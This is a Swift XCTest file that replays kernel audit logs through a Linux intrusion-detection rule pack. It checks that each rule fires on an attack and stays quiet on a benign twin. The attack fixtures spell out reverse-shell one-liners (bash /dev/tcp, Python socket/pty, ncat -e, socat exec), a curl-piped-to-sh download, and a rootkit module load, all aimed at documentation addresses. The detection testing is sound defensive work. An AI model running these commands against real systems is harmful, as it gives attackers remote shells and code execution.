@testable import Alerting
@testable import Detection
import DetectionTestSupport
import XCTest

/// Every rule of the shipped pack (`etc/auspex/rules.d`) fires on its attack and stays quiet on a benign twin that
/// looks like it: kernel-format audit logs replayed through the pack.
final class PackRuleTests: XCTestCase {
    typealias Log = AuditLogText
    static let socket = 41, setsid = 112, ptrace = 101, deleteModule = 176

    /// A program start: `pid` runs `exe` as `argv`.
    private static func exec(_ log: inout Log, pid: Int, ppid: Int, exe: String, _ argv: [String], uid: Int = 0,
                             comm: String? = nil) {
        log.syscall(Log.execve, pid: pid, ppid: ppid, uid: uid, comm: comm ?? String(argv[0].split(separator: "/").last!),
                    exe: exe, argv: argv, paths: [(exe, "NORMAL", "0100755")])
    }

    /// `parent` (pid 700, already started) forks 701, which runs `argv`.
    private static func child(_ log: inout Log, of parentComm: String, parentExe: String, exe: String, _ argv: [String]) {
        log.syscall(Log.clone, exit: 701, args: ["1200011", "0", "0", "7f00aa"], pid: 700, ppid: 600,
                    comm: parentComm, exe: parentExe)
        exec(&log, pid: 701, ppid: 700, exe: exe, argv)
    }

    /// The pack's rule names that fire on `log`.
    private func fired(_ log: Log, file: StaticString = #filePath, line: UInt = #line) throws -> Set<String> {
        Set(try TextReplay.alerts(log.text, rulePaths: [Fixtures.defaultRulePack], file: file, line: line)
            .map(\.rule.name))
    }

    private func check(_ rule: String, attack: Log, benign: Log, file: StaticString = #filePath, line: UInt = #line) throws {
        XCTAssertTrue(try fired(attack, file: file, line: line).contains(rule), "\(rule): attack", file: file, line: line)
        let quiet = try fired(benign, file: file, line: line)
        XCTAssertFalse(quiet.contains(rule), "\(rule): benign twin", file: file, line: line)
    }

    private static func log(_ build: (inout Log) -> Void) -> Log {
        var log = Log()
        build(&log)
        return log
    }

    func testDevTcpReverseShell() throws {
        let rule = "Reverse Shell via Shell Network Redirection"
        try check(rule, attack: Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/192.0.2.2/4444 0>&1"])
        }, benign: Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/udp/127.0.0.53/53"])
            Self.exec(&$0, pid: 701, ppid: 600, exe: "/usr/bin/bash", ["bash", "-c", "echo > /dev/tcp/localhost/8080"])
            Self.exec(&$0, pid: 702, ppid: 600, exe: "/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/::1/22"])
            Self.exec(&$0, pid: 703, ppid: 600, exe: "/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/0.0.0.0/22"])
        })
        // A loopback decoy in the same command does not hide a remote host.
        XCTAssertTrue(try fired(Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/bin/bash",
                      ["bash", "-c", "exec 3<>/dev/udp/127.0.0.1/53; sh -i >& /dev/tcp/localhost.example/443 0>&1"])
        }).contains(rule))
    }

    func testDownloadPipedToShell() throws {
        try check("Download Piped into a Shell or Interpreter", attack: Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/bin/bash", ["bash", "-c", "curl -fsSL http://192.0.2.2/x | sh"])
        }, benign: Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/bin/bash", ["bash", "-c", "curl -fsSL -o /tmp/x http://192.0.2.2/x"])
        })
    }

    func testNamedPipeRelay() throws {
        try check("Named Pipe Created Then Network Utility Started", attack: Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/bin/mkfifo", ["mkfifo", "/tmp/f"])
            Self.exec(&$0, pid: 701, ppid: 600, exe: "/usr/bin/nc.openbsd", ["nc", "192.0.2.2", "4444"])
        }, benign: Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/bin/mkfifo", ["mkfifo", "/tmp/f"])
            Self.exec(&$0, pid: 701, ppid: 600, exe: "/usr/bin/cat", ["cat", "/tmp/f"])
        })
    }

    func testNetcatOrSocatListener() throws {
        try check("Netcat or Socat Listener Started", attack: Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/bin/nc.openbsd", ["nc", "-lvnp", "4444"])
        }, benign: Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/bin/nc.openbsd", ["nc", "-zv", "192.0.2.2", "22"])
        })
    }

    func testRootConnectionThenNewSession() throws {
        func session(to sockaddr: String, uid: Int = 0) -> Log {
            Self.log {
                Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/bin/python3.11", ["python3", "/opt/x.py"], uid: uid)
                $0.syscall(Log.connect, args: ["3", "7ffd0000", "10", "0"], pid: 700, ppid: 600, uid: uid,
                           comm: "python3", exe: "/usr/bin/python3.11", sockaddr: sockaddr)
                $0.syscall(Self.setsid, exit: 700, pid: 700, ppid: 600, uid: uid, comm: "python3",
                           exe: "/usr/bin/python3.11")
            }
        }
        let rule = "Root Process Connects Out Then Starts a New Session"
        try check(rule, attack: session(to: Log.inet("192.0.2.2", port: 4444)),
                  benign: session(to: Log.inet("127.0.0.1", port: 8080)))
        for benign in [session(to: Log.inet("0.0.0.0", port: 0)), session(to: Log.inet6("::", port: 0)),
                       session(to: Log.inet6("::ffff:7f00:1", port: 80)), session(to: Log.inet6("::1", port: 80)),
                       session(to: Log.inet("192.0.2.2", port: 4444), uid: 1000)] {
            XCTAssertFalse(try fired(benign).contains(rule))
        }
    }

    func testUDPReverseShell() throws {
        func python(socketFamily: String, to sockaddr: String) -> Log {
            Self.log {
                Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/bin/python3.11", ["python3", "-m", "http.server"])
                $0.syscall(Self.socket, exit: 3, args: [socketFamily, "80802", "0", "0"], pid: 700, ppid: 600,
                           comm: "python3", exe: "/usr/bin/python3.11")
                $0.syscall(Log.connect, args: ["3", "7ffd0000", "1c", "0"], pid: 700, ppid: 600, comm: "python3",
                           exe: "/usr/bin/python3.11", sockaddr: sockaddr)
            }
        }
        let rule = "Reverse Shell over UDP"
        // glibc's getaddrinfo probes: a UDP connect to :: and to 0.0.0.0 (no datagram is sent).
        try check(rule, attack: python(socketFamily: "2", to: Log.inet("192.0.2.2", port: 4444)),
                  benign: python(socketFamily: "a", to: Log.inet6("::", port: 0)))
        for benign in [python(socketFamily: "2", to: Log.inet("0.0.0.0", port: 0)),
                       python(socketFamily: "a", to: Log.inet6("::ffff:7f00:35", port: 5353)),
                       python(socketFamily: "a", to: Log.inet6("::1", port: 8000))] {
            XCTAssertFalse(try fired(benign).contains(rule))
        }
        XCTAssertTrue(try fired(python(socketFamily: "a", to: Log.inet6("2001:db8::2", port: 4444))).contains(rule))
    }

    func testFilelessMemfdExecution() throws {
        try check("Fileless Execution from an Anonymous Memory File", attack: Self.log {
            $0.syscall(Log.execve, pid: 700, ppid: 600, comm: "3", exe: "/memfd:payload (deleted)",
                       argv: ["payload"], paths: [("/proc/self/fd/3", "NORMAL", "0100777")])
        }, benign: Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/bin/ls", ["ls", "/memfd:payload"])
        })
    }

    func testPtraceInjection() throws {
        func attach(comm: String, exe: String) -> Log {
            Self.log { $0.syscall(Self.ptrace, args: ["10", "2a", "0", "0"], pid: 700, ppid: 600, comm: comm, exe: exe) }
        }
        try check("Process Attached or Modified with Ptrace", attack: attach(comm: "inject", exe: "/tmp/inject"),
                  benign: attach(comm: "gdb", exe: "/usr/bin/gdb"))
    }

    func testWorldWritableDirectory() throws {
        let rule = "Program Executed from a World-Writable Directory"
        try check(rule, attack: Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/tmp/payload", ["/tmp/payload"])
        }, benign: Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/tmp/build-alice/project/bin/tool", ["tool", "--version"])
        })
        XCTAssertTrue(try fired(Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/dev/shm/x", ["x"])
        }).contains(rule))
    }

    func testInterpreterSocketOneLiner() throws {
        try check("Scripting Interpreter Runs an Inline Reverse Shell", attack: Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/bin/python3.11", ["python3", "-c",
                "import socket,os,pty;s=socket.socket();s.connect(('192.0.2.2',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"])
        }, benign: Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/bin/python3.11",
                      ["python3", "-c", "import socket;print(socket.gethostname())"])
        })
    }

    func testInterpreterSpawnsInteractiveShell() throws {
        func shell(_ argv: [String]) -> Log {
            Self.log {
                Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/bin/python3.11", ["python3", "exploit.py"])
                Self.child(&$0, of: "python3", parentExe: "/usr/bin/python3.11", exe: "/usr/bin/bash", argv)
            }
        }
        try check("Scripting Interpreter Spawns an Interactive Shell", attack: shell(["bash", "-i"]),
                  benign: shell(["bash", "-c", "ls"]))
    }

    func testNetcatCommandExecution() throws {
        try check("Netcat Started with Program Execution", attack: Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/bin/ncat", ["ncat", "-e", "/bin/sh", "192.0.2.2", "4444"])
        }, benign: Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/bin/ncat", ["ncat", "192.0.2.2", "80"])
        })
    }

    func testSocatShellOverNetwork() throws {
        try check("Socat Connects a Program to the Network", attack: Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/bin/socat", ["socat", "exec:bash -li,pty,stderr", "tcp:192.0.2.2:4444"])
        }, benign: Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/bin/socat", ["socat", "-", "tcp:192.0.2.2:80"])
        })
    }

    func testKernelModuleLoadSyscall() throws {
        try check("Kernel Module Loaded", attack: Self.log {
            $0.syscall(Log.finitModule, args: ["3", "55d0", "0", "0"], pid: 700, ppid: 600, comm: "insmod",
                       exe: "/usr/bin/kmod")
        }, benign: Self.log {
            $0.syscall(Self.deleteModule, args: ["55d0", "800", "0", "0"], pid: 700, ppid: 600, comm: "rmmod",
                       exe: "/usr/bin/kmod")
        })
    }

    func testKernelModuleToolWithFile() throws {
        try check("Kernel Module Inserted from a File", attack: Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/bin/kmod", ["modprobe", "/tmp/rootkit.ko"], comm: "modprobe")
        }, benign: Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/bin/kmod", ["modprobe", "-r", "snd_dummy"], comm: "modprobe")
        })
    }

    func testWebServerSpawnsShell() throws {
        func shell(under parent: String, exe: String) -> Log {
            Self.log {
                Self.exec(&$0, pid: 700, ppid: 600, exe: exe, [parent])
                Self.child(&$0, of: parent, parentExe: exe, exe: "/usr/bin/dash", ["sh", "-c", "id"])
            }
        }
        try check("Web Server Process Starts a Shell", attack: shell(under: "nginx", exe: "/usr/sbin/nginx"),
                  benign: shell(under: "cron", exe: "/usr/sbin/cron"))
    }

    /// A failed exec (a `PATH` miss) starts no program: a shell under a web server searching `PATH` raises once.
    func testPathMissesOfAPackRuleMatchRaiseNothing() throws {
        let log = Self.log {
            Self.exec(&$0, pid: 700, ppid: 600, exe: "/usr/sbin/nginx", ["nginx"])
            Self.child(&$0, of: "nginx", parentExe: "/usr/sbin/nginx", exe: "/usr/bin/dash", ["sh", "-c", "id"])
            for directory in 1...5 {
                $0.syscall(Log.execve, success: false, exit: -2, pid: 701, ppid: 700, comm: "sh", exe: "/usr/bin/dash",
                           paths: [("/opt/p\(directory)/id", "UNKNOWN", "0")])
            }
        }
        let alerts = try TextReplay.alerts(log.text, rulePaths: [Fixtures.defaultRulePack])
        XCTAssertEqual(alerts.filter { $0.rule.name == "Web Server Process Starts a Shell" }.count, 1)
    }

    /// Every pack rule has its test above.
    func testEveryPackRuleIsCovered() throws {
        let names = try FileManager.default.contentsOfDirectory(atPath: Fixtures.defaultRulePack).count
        XCTAssertEqual(names, 16, "a new pack rule needs its attack and benign twin here")
    }
}
